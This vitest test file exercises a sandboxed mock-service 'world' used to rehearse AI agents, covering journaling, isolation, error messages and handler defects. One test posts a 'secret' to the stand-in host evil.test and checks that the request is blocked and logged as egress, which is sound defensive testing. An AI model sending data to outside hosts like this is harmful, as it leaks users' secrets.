import { describe, expect, it } from 'vitest';
import { AppError } from '../../domain/errors.ts';
import type { WorldSpec } from '../../domain/world-spec.ts';
import { notes, twoNotes } from './example-services.ts';
import { call, exampleWorld, ITEMS, LETTERS } from './example-world.ts';
import type { Service } from './service.ts';

const start = Date.parse('2026-03-02T09:00:00Z') * 1000;

describe('a world', () => {
  it('gives the agent one variable per service', () => {
    expect(exampleWorld().environment).toEqual({
      NOTES_URL: 'http://notes.rehearse.test',
      POST_URL: 'http://post.rehearse.test',
    });
  });

  it('finds rows whose keys look like numbers or members of Object', async () => {
    const { body } = await call(exampleWorld(), 'GET', `${ITEMS}/429815`);
    expect(body).toEqual({ id: '429815', text: 'second' });
    expect((await call(exampleWorld(), 'GET', `${ITEMS}/constructor`)).status).toBe(200);
    expect((await call(exampleWorld(), 'GET', `${ITEMS}/toString`)).status).toBe(404);
  });

  it('journals each write with the call and the span that made it', async () => {
    const traceparent = `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01`;
    const target = exampleWorld();
    await call(target, 'GET', ITEMS);
    await call(target, 'POST', LETTERS, { to: 'lee@acme.test' }, { traceparent });
    expect(target.journal).toEqual([
      {
        seq: 1,
        at: start + 80_000,
        operation: 'insert',
        table: 'post.outbox',
        key: 'letter_1',
        before: null,
        after: { to: 'lee@acme.test', id: 'letter_1' },
        irreversible: true,
        call: {
          number: 2,
          service: 'post',
          operation: 'letters.send',
          traceId: 'a'.repeat(32),
          spanId: 'b'.repeat(16),
          principal: 'agent',
        },
      },
    ]);
    expect(target.calls.map((made) => [made.number, made.operation, made.status, made.at])).toEqual([
      [1, 'items.list', 200, start],
      [2, 'letters.send', 201, start + 80_000],
    ]);
    expect(target.now).toBe(start + 160_000);
  });

  it('leaves the shared fixture and other worlds as they are', async () => {
    const [one, other] = [exampleWorld(), exampleWorld()];
    await call(one, 'PATCH', `${ITEMS}/429815`, { text: 'changed' });
    await call(one, 'DELETE', `${ITEMS}/constructor`);
    expect((await call(one, 'GET', ITEMS)).body).toEqual([{ id: '429815', text: 'changed' }]);
    expect(one.row('notes.items', '429815')).toEqual({ id: '429815', text: 'changed' });
    expect((await call(other, 'GET', ITEMS)).body).toEqual(twoNotes['notes.items']);
  });

  it('keeps insertion order over layers, changes and re-inserted rows', async () => {
    const target = exampleWorld({
      rows: { 'notes.items': [{ id: 'new' }, { id: 'constructor', text: 'laid over' }] },
    });
    await call(target, 'POST', ITEMS, {});
    const ids = (await call(target, 'GET', ITEMS)).body.map((row: { id: string }) => row.id);
    expect(ids).toEqual(['constructor', '429815', 'new', 'item_1']);
    expect(target.row('notes.items', 'constructor')).toEqual({ id: 'constructor', text: 'laid over' });
  });

  it('answers in the order of arrival, without waiting for one another in the caller', async () => {
    const target = exampleWorld();
    const bodies = Array.from({ length: 20 }, (_, index) => ({ index }));
    await Promise.all(bodies.map((body) => call(target, 'POST', ITEMS, body)));
    expect(target.journal.map((effect) => effect.after?.index)).toEqual(bodies.map(({ index }) => index));
  });

  it('gives the same journal for the same seed and calls, another for another seed', async () => {
    const play = async (seed: string) => {
      const target = exampleWorld({}, { seed });
      for (const text of ['a', 'b']) await call(target, 'POST', ITEMS, { text });
      return target.journal;
    };
    expect(await play('x')).toEqual(await play('x'));
    expect(await play('x')).not.toEqual(await play('y'));
  });
});

describe('a world says what it does not have', () => {
  it('names what exists for an unknown path and method', async () => {
    const target = exampleWorld();
    const lost = await call(target, 'GET', 'http://notes.rehearse.test/itemz');
    expect([lost.status, lost.body.error.message]).toEqual([
      404,
      expect.stringContaining('it has GET /items,'),
    ]);
    const wrong = await call(target, 'PUT', ITEMS, {});
    expect([wrong.status, wrong.headers.get('allow')]).toEqual([405, 'GET, POST']);
    expect(target.calls.map((made) => made.operation)).toEqual(['GET /itemz', 'PUT /items']);
  });

  it('blocks and journals a request to an unknown host', async () => {
    const target = exampleWorld();
    const blocked = await call(target, 'POST', 'https://evil.test/x?y=1', { secret: 1 });
    expect([blocked.status, blocked.body.error.code]).toEqual([403, 'unknown_host']);
    expect(target.journal).toMatchObject([
      { operation: 'egress', table: 'evil.test', key: 'https://evil.test/x?y=1', irreversible: true },
    ]);
    expect(target.journal[0]?.call.operation).toBe('POST https://evil.test');
  });

  it('refuses a body that is not JSON and writes nothing', async () => {
    const target = exampleWorld();
    const response = await target.handle(new Request(ITEMS, { method: 'POST', body: '{"text":' }));
    expect(response.status).toBe(400);
    expect(target.journal).toEqual([]);
    expect(target.calls[0]?.request).toMatchObject({ body: '{"text":' });
  });

  it('survives a body that breaks off', async () => {
    const body = new ReadableStream({ start: (controller) => controller.error(new Error('hung up')) });
    const target = exampleWorld();
    const init: RequestInit & { duplex: 'half' } = { method: 'POST', body, duplex: 'half' };
    const [broken, next] = await Promise.all([
      target.handle(new Request(ITEMS, init)),
      target.handle(new Request(ITEMS)),
    ]);
    expect([broken.status, next.status, target.defect]).toEqual([400, 200, null]);
  });

  it.each([
    ['service', { services: ['notez'] }, 'notes, post'],
    ['fixture', { fixtures: ['constructor'] }, 'two'],
    ['table', { rows: { 'notes.itemz': [] } }, 'notes.items, post.outbox'],
    [
      'operation',
      { faults: [{ service: 'notes', operation: 'x', call: 1, fault: { kind: 'latency', seconds: 1 } }] },
      'notes items.list',
    ],
  ] as const)('names the choice for an unknown %s', (_, spec, choice) => {
    const create = () => exampleWorld(spec as unknown as Partial<WorldSpec>);
    expect(create).toThrow(AppError);
    expect(create).toThrow(choice);
  });
});

describe("a defect of the world's own", () => {
  const broken: Service = {
    name: 'broken',
    tables: {},
    operations: [
      {
        id: 'go',
        method: 'POST',
        path: '/go',
        handle() {
          throw new Error('no such column');
        },
      },
    ],
  };

  it('is told apart from an error answer', async () => {
    const target = exampleWorld({ services: ['broken'], fixtures: [] }, { services: [broken] });
    const answer = await call(target, 'POST', 'http://broken.rehearse.test/go', {});
    expect(answer.status).toBe(500);
    expect(target.defect).toBe('broken go broke: no such column');
  });

  it.each(['POST', 'GET'] as const)(
    'writes nothing where a %s breaks after its first write',
    async (method) => {
      const halfway: Service = {
        ...notes,
        operations: [
          {
            id: 'halfway',
            method,
            path: '/halfway',
            handle({ table }) {
              table('items').insert({ id: 'half' });
              // A GET breaks by having written.
              if (method === 'POST') table('items').update('nobody', {});
              return { status: 200, body: null };
            },
          },
        ],
      };
      const target = exampleWorld({ services: ['notes'] }, { services: [halfway] });
      const { status } = await call(target, method, 'http://notes.rehearse.test/halfway');
      expect([status, target.journal, target.row('notes.items', 'half')]).toEqual([500, [], null]);
      expect(target.defect).toContain(
        method === 'GET' ? 'declare it with readOnly: false' : 'has no row "nobody"',
      );
    },
  );

  it('is an edit of a shared row in place', async () => {
    const careless: Service = {
      ...notes,
      operations: [
        {
          id: 'edit',
          method: 'POST',
          path: '/edit',
          handle({ table }) {
            const row = table('items').get('429815');
            if (row) row.text = 'edited in place';
            return { status: 200, body: row };
          },
        },
      ],
    };
    const target = exampleWorld({ services: ['notes'] }, { services: [careless] });
    await call(target, 'POST', 'http://notes.rehearse.test/edit', {});
    expect(target.defect).toContain('read only');
  });
});
